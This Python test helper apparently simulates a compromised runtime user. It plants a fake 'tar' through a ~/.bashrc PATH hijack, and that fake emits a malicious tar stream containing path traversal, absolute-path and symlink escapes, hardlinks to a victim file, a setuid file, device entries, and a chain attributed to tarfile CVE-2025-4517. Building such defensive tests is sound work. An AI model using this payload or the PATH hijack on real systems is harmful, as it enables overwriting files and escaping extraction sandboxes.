"""An attacker on the runtime: the runtime user's own ``~/.bashrc`` puts a fake ``tar`` first on
PATH, which answers every download with a crafted stream instead of the real files."""

from __future__ import annotations

import hashlib
import os
import pwd
import shutil
from pathlib import Path

# Written out by the fake tar (standard library only): ``python3 PAYLOAD TOP`` prints the stream.
PAYLOAD = r"""
import io, os, sys, tarfile

top = sys.argv[1]
victim = sys.argv[2]
out = tarfile.open(fileobj=sys.stdout.buffer, mode="w|", format=tarfile.GNU_FORMAT)


def add(name, kind=tarfile.REGTYPE, link="", data=b"owned\n", mode=0o644):
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, mode
    if kind == tarfile.REGTYPE:
        info.size = len(data)
        out.addfile(info, io.BytesIO(data))
    else:
        out.addfile(info)


add(top, tarfile.DIRTYPE, mode=0o755)
add(top + "/../escaped-by-dots")
add("/" + victim.lstrip("/") + "-absolute")
add(top + "/ok.txt", data=b"fine\n")
add(top + "/run.sh", data=b"#!/bin/sh\n", mode=0o4777)
# A link out, then a file written "through" it.
add(top + "/out", tarfile.SYMTYPE, os.path.dirname(victim))
add(top + "/out/" + os.path.basename(victim))
# The tarfile CVE-2025-4517 chain: nested 247-character directories behind one-letter links,
# so that the lexical path exceeds PATH_MAX and realpath() stops resolving it.
comp = "d" * 247
steps = "abcdefghijklmnop"
path = top
for step in steps:
    add(path + "/" + comp, tarfile.DIRTYPE, mode=0o755)
    add(path + "/" + step, tarfile.SYMTYPE, comp)
    path = path + "/" + comp
linkpath = top + "/" + "/".join(steps) + "/" + "l" * 254
add(linkpath, tarfile.SYMTYPE, "../" * len(steps))
up = "../" * (len(os.path.dirname(victim).strip("/").split("/")) + 8)
through = linkpath[len(top) + 1 :] + "/../../" + up + os.path.dirname(victim).lstrip("/")
add(top + "/escape", tarfile.SYMTYPE, through)
add(top + "/escape/" + os.path.basename(victim))
add(top + "/hard", tarfile.LNKTYPE, victim)
add(top + "/fifo", tarfile.FIFOTYPE)
add(top + "/dev", tarfile.CHRTYPE)
add(top + "/\x1b]0;retitled\x07", tarfile.SYMTYPE, "/etc")
out.close()
"""

FAKE_TAR = """#!/bin/sh
# Stands in for tar -c ... -- NAME: the last argument names the top entry.
for last; do :; done
exec /usr/bin/python3 "$HOME/.evil/payload.py" "$last" "{victim}"
"""


def plant_fake_tar(username: str, victim: Path) -> None:
    """Make the runtime user's shells run the fake tar (as a compromised runtime would)."""
    account = pwd.getpwnam(username)
    home = Path(account.pw_dir)
    evil = home / ".evil"
    evil.mkdir(exist_ok=True)
    (evil / "payload.py").write_text(PAYLOAD)
    (evil / "tar").write_text(FAKE_TAR.format(victim=victim))
    (evil / "tar").chmod(0o755)
    bashrc = home / ".bashrc"
    bashrc.write_text(
        'PATH="$HOME/.evil:$PATH"\n' + (bashrc.read_text() if bashrc.exists() else "")
    )
    for path in (evil, evil / "payload.py", evil / "tar", bashrc):
        os.chown(path, account.pw_uid, account.pw_gid)


def remove_fake_tar(username: str) -> None:
    home = Path(pwd.getpwnam(username).pw_dir)
    shutil.rmtree(home / ".evil", ignore_errors=True)


def snapshot(root: Path) -> dict[str, str]:
    """Every entry under ``root`` (not following links): content hash, link target or "dir"."""
    out: dict[str, str] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            rel = str(path.relative_to(root))
            if path.is_symlink():
                out[rel] = "-> " + os.readlink(path)
            elif path.is_dir():
                out[rel] = "dir"
            else:
                out[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out
